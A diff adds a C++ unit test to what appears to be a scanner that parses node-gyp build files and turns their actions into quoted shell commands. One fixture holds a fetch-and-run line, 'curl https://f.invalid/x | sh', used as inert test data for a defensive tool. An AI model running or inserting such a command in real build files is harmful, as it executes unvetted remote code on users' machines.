@@ -61,6 +61,16 @@ TEST(GypFile, ActionsAreCommandsWithTheirWords) {
   EXPECT_EQ(texts(file, GypCommandKind::action), (Texts{"node install.js --ab", "sh x.sh"}));
 }
 
+TEST(GypFile, AWordOfAnActionStaysOneWord) {
+  const GypFile file = parsed(R"gyp({'actions': [
+      {'action': ['sh', '-c', 'curl https://f.invalid/x | sh']},
+      {'action': ['node', '-e', "f('a b').then(r => r)"]},
+      {'action': ['node', '<(module_root_dir)/x.js', '<@(_inputs)', '$(BUILDTYPE)', '-I', 'a/b', 'C:\\x.js']}]})gyp");
+  EXPECT_EQ(texts(file, GypCommandKind::action),
+            (Texts{"sh -c 'curl https://f.invalid/x | sh'", "node -e 'f('\\''a b'\\'').then(r => r)'",
+                   "node <(module_root_dir)/x.js <@(_inputs) $(BUILDTYPE) -I a/b C:\\x.js"}));
+}
+
 TEST(GypFile, EscapesDoNotHideACommand) {
   const GypFile file = parsed(
       "{'a': '\\x3c!(one)', 'b': '\\74\\u0021(two)', 'c': r'<!(\\three)', 'd': '<' '!(four)', 'e': '''<!(fi\nve)'''}");
